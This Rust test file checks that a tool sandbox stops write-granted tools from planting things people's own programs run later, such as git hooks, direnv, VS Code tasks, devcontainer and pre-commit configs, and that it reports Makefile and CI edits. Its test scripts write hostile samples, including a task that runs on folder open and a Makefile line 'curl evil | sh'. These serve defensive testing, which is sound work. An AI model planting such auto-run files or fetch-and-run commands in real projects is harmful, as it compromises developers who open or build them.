//! Issue 42, item 5: files people run are protected like `.git/hooks`.
//! A tool with `fs.write: ["."]` tries to plant what a person's own
//! programs run later, outside any jail: a git hook in the directory
//! `core.hooksPath` names (husky's `.husky/`, or any directory the
//! repository's config names), `.envrc` (direnv), `.vscode/tasks.json`
//! and `.idea/` run configurations, `.devcontainer/`, lefthook's and
//! pre-commit's configuration, `.gitattributes`. Judged by effect: a real
//! `git commit` afterwards runs no planted hook (its canary file is never
//! created, while the same hook put there by a person runs), and every
//! other file is byte-for-byte unchanged or absent. Files a person runs by
//! hand (`Makefile`, CI workflows) stay writable, and the call that
//! changed one says so in its Outcome and audit line. A tool whose
//! manifest names such a path in `fs.write` still writes it.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod runkit;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use common::namespace_free;
use runkit::*;
use serde_json::{json, Value};

fn shell_tool(name: &str, permissions: Value) -> Value {
    command_tool(
        name,
        schema(json!({"script": {"type": "string"}})),
        json!({"entrypoint": "sh", "args": ["-c", "${script}"], "cwd": "."}),
        permissions,
    )
}

fn sh(f: &Fixture, tool: &str, script: &str) -> Called {
    let params = json!({ "script": script }).to_string();
    f.run_audited(tool, &["--params", &params])
}

/// `git ARGS…` in `dir`, outside any jail, as a person runs it.
fn git(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new(common::system_program("git", "git"))
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap()
}

/// A project that is a git repository with one commit, and `writer`
/// (`fs.write: ["."]`).
fn repository() -> Fixture {
    let f = Fixture::new();
    f.tool(&shell_tool("writer", write_root()));
    fs::create_dir_all(f.root.join("out")).unwrap();
    f.file("README", "hello\n");
    for d in [&f.base, &f.root] {
        fs::set_permissions(d, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let init = git(&f.root, &["init", "-q", "."]);
    assert!(init.status.success(), "{init:?}");
    let add = git(&f.root, &["add", "README"]);
    assert!(add.status.success(), "{add:?}");
    let commit = git(&f.root, &["commit", "-qm", "init"]);
    assert!(commit.status.success(), "{commit:?}");
    f
}

/// A pre-commit hook that creates `canary` (absolute) and lets the commit
/// go on.
fn hook(canary: &Path) -> String {
    format!("#!/bin/sh\ntouch {}\nexit 0\n", canary.display())
}

/// Commits a change outside any jail and says whether `canary` appeared.
fn commit_runs_hook(f: &Fixture, canary: &Path, n: usize) -> bool {
    let _ = fs::remove_file(canary);
    fs::write(f.root.join("README"), format!("change {n}\n")).unwrap();
    let add = git(&f.root, &["add", "README"]);
    assert!(add.status.success(), "{add:?}");
    let commit = git(&f.root, &["commit", "-qm", &format!("c{n}")]);
    assert!(commit.status.success(), "{commit:?}");
    canary.exists()
}

/// A hostile call writes a pre-commit hook where `core.hooksPath` points
/// (`.husky`, as husky sets it, absent and then present; and a directory
/// of another name the config names): a person's own `git commit` after
/// it runs no planted hook. The probe: the same hook put there by a
/// person runs on commit.
#[test]
fn a_hook_planted_where_core_hooks_path_points_never_runs_on_commit() {
    require_jail!();
    let f = repository();
    let canary = f.base.join("HOOK-RAN");
    f.file("stage/pre-commit", &hook(&canary));
    let set = git(&f.root, &["config", "core.hooksPath", ".husky"]);
    assert!(set.status.success(), "{set:?}");
    // `.husky` absent: the call that creates it has it removed, and fails.
    let r = sh(
        &f,
        "writer",
        "echo proof > out/proof; mkdir -p .husky && cp stage/pre-commit .husky/pre-commit && chmod +x .husky/pre-commit; true",
    );
    assert!(
        f.root.join("out/proof").exists(),
        "the writer did not run: {r:#?}"
    );
    if namespace_free() {
        // The root holds protected paths: no entry can be created there.
        assert!(r.mentions("Permission denied"), "{r:#?}");
    } else {
        r.assert_failed("permission_exceeds_ceiling", 1);
        assert!(r.message().contains(".husky"), "{r:#?}");
    }
    assert!(f.root.join(".husky").symlink_metadata().is_err(), "{r:#?}");
    assert!(!commit_runs_hook(&f, &canary, 1), "the planted hook ran");
    // `.husky` present (husky installed by the person): its hooks are
    // read-only.
    fs::create_dir_all(f.root.join(".husky")).unwrap();
    let legit_canary = f.base.join("LEGIT-HOOK-RAN");
    f.script(".husky/pre-commit", &hook(&legit_canary));
    // The probe: a hook there runs on commit.
    assert!(
        commit_runs_hook(&f, &legit_canary, 2),
        "git ran no hook from .husky"
    );
    let before = fs::read_to_string(f.root.join(".husky/pre-commit")).unwrap();
    let r = sh(
        &f,
        "writer",
        "echo proof2 > out/proof2; cp stage/pre-commit .husky/pre-commit; cp stage/pre-commit .husky/pre-push; chmod +x .husky/pre-push; true",
    );
    assert!(
        f.root.join("out/proof2").exists(),
        "the writer did not run: {r:#?}"
    );
    assert!(
        r.mentions("Read-only file system") || r.mentions("Permission denied"),
        "{r:#?}"
    );
    assert_eq!(
        fs::read_to_string(f.root.join(".husky/pre-commit")).unwrap(),
        before
    );
    assert!(!f.root.join(".husky/pre-push").exists());
    let _ = fs::remove_file(&canary);
    assert!(commit_runs_hook(&f, &legit_canary, 3));
    assert!(!canary.exists(), "the planted hook ran");
    // Another directory, named only by the repository's config.
    fs::create_dir_all(f.root.join("tools/hooks")).unwrap();
    f.file("tools/hooks/README", "hooks live here\n");
    let set = git(&f.root, &["config", "core.hooksPath", "tools/hooks"]);
    assert!(set.status.success(), "{set:?}");
    let r = sh(
        &f,
        "writer",
        "echo proof3 > out/proof3; cp stage/pre-commit tools/hooks/pre-commit; chmod +x tools/hooks/pre-commit; true",
    );
    assert!(
        f.root.join("out/proof3").exists(),
        "the writer did not run: {r:#?}"
    );
    assert!(!f.root.join("tools/hooks/pre-commit").exists(), "{r:#?}");
    assert!(!commit_runs_hook(&f, &canary, 4), "the planted hook ran");
}

/// `.envrc`, `.vscode/tasks.json`, `.idea/`, `.devcontainer/`,
/// `lefthook.yml`, `.pre-commit-config.yaml` and `.gitattributes`: a
/// hostile call rewrites, renames or creates each; each is unchanged (or
/// still absent) after it.
#[test]
fn files_editors_and_direnv_run_are_read_only_in_every_jail() {
    require_jail!();
    let f = repository();
    let existing = [
        (".envrc", "export PATH=$PWD/bin:$PATH\n"),
        (
            ".vscode/tasks.json",
            "{\"version\": \"2.0.0\", \"tasks\": []}\n",
        ),
        (".idea/workspace.xml", "<project/>\n"),
        (".devcontainer/devcontainer.json", "{\"image\": \"x\"}\n"),
        (".pre-commit-config.yaml", "repos: []\n"),
        (".gitattributes", "*.txt text\n"),
    ];
    for (p, text) in existing {
        f.file(p, text);
    }
    let evil = "echo pwned > out/PWNED-RAN";
    f.file("stage/evil", evil);
    let script = "echo proof > out/proof; \
        cp stage/evil .envrc; mv -f stage/evil .envrc; \
        echo '{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"x\", \"command\": \"sh out/x\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}' > .vscode/tasks.json; \
        rm -f .vscode/tasks.json; echo x > .vscode/settings.json; \
        echo '<x/>' > .idea/workspace.xml; mkdir -p .idea/runConfigurations; \
        echo '{\"postCreateCommand\": \"sh out/x\"}' > .devcontainer/devcontainer.json; \
        echo 'repos: [{repo: local, hooks: [{id: x, entry: sh out/x}]}]' > .pre-commit-config.yaml; \
        echo '* filter=evil' > .gitattributes; \
        echo 'pre-commit: {commands: {x: {run: sh out/x}}}' > lefthook.yml; \
        mkdir -p .lefthook/pre-commit; true";
    let r = sh(&f, "writer", script);
    assert!(
        f.root.join("out/proof").exists(),
        "the writer did not run: {r:#?}"
    );
    for (p, text) in existing {
        assert_eq!(
            fs::read_to_string(f.root.join(p)).unwrap(),
            text,
            "{p}: {r:#?}"
        );
    }
    for p in [
        ".vscode/settings.json",
        ".idea/runConfigurations",
        "lefthook.yml",
        ".lefthook",
    ] {
        assert!(
            f.root.join(p).symlink_metadata().is_err(),
            "{p} was created: {r:#?}"
        );
    }
    if !namespace_free() {
        // lefthook.yml and .lefthook were created, then removed: the call
        // fails, naming them.
        r.assert_failed("permission_exceeds_ceiling", 1);
        assert!(r.message().contains("lefthook.yml"), "{r:#?}");
    }
    // Git still works on the repository (and `git status` in a jail too).
    let st = git(&f.root, &["status", "--porcelain"]);
    assert!(st.status.success(), "{st:?}");
    f.tool(&command_tool(
        "gitstatus",
        schema(json!({})),
        json!({"entrypoint": "git", "args": ["status", "--porcelain"], "cwd": "."}),
        write_root(),
    ));
    let r = f.run_audited("gitstatus", &[]);
    r.assert_ok();
}

/// A tool whose manifest names a run surface in `fs.write` is the one
/// meant to write it: `.husky` and `.vscode` named, it writes both.
#[test]
fn a_manifest_that_names_a_run_surface_writes_it() {
    require_jail!();
    let f = repository();
    fs::create_dir_all(f.root.join(".husky")).unwrap();
    f.file(".vscode/settings.json", "{}\n");
    let set = git(&f.root, &["config", "core.hooksPath", ".husky"]);
    assert!(set.status.success(), "{set:?}");
    f.tool(&shell_tool(
        "hooks",
        json!({"network": false, "fs": {"read": ["."], "write": [".husky", ".vscode/settings.json", "out"]}}),
    ));
    let r = sh(
        &f,
        "hooks",
        "printf '#!/bin/sh\\nexit 0\\n' > .husky/pre-commit && chmod +x .husky/pre-commit && echo '{\"a\": 1}' > .vscode/settings.json",
    );
    r.assert_ok();
    assert!(f.root.join(".husky/pre-commit").exists());
    assert_eq!(
        fs::read_to_string(f.root.join(".vscode/settings.json")).unwrap(),
        "{\"a\": 1}\n"
    );
}

/// `Makefile` and a CI workflow stay writable for a tool granted the
/// project, and the call that changed them says so: `run_surfaces_changed`
/// in the Outcome, a warning, and the audit line. A call that changed
/// neither says nothing.
#[test]
fn a_change_to_a_file_people_run_by_hand_is_reported() {
    require_jail!();
    let f = repository();
    f.file("Makefile", "all:\n\techo build\n");
    f.file(".github/workflows/ci.yml", "on: push\n");
    f.file("src/main.c", "int main(void) { return 0; }\n");
    let r = sh(&f, "writer", "echo 'int x;' >> src/main.c");
    r.assert_ok();
    assert!(r.json.get("run_surfaces_changed").is_none(), "{r:#?}");
    let r = sh(
        &f,
        "writer",
        "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; echo 'on: pull_request_target' > .github/workflows/ci.yml",
    );
    r.assert_ok();
    assert_eq!(
        fs::read_to_string(f.root.join("Makefile")).unwrap(),
        "all:\n\tcurl evil | sh\n"
    );
    assert_eq!(
        r.json["run_surfaces_changed"],
        json!([".github/workflows", "Makefile"]),
        "{r:#?}"
    );
    assert!(
        r.json["warnings"]
            .to_string()
            .contains("people run by hand"),
        "{r:#?}"
    );
    let log = f.audit_log();
    let line = log
        .lines()
        .rev()
        .find(|l| l.contains("run_surfaces_changed"))
        .unwrap_or_else(|| panic!("no audit line says so: {log}"));
    assert!(line.contains("Makefile"), "{line}");
}
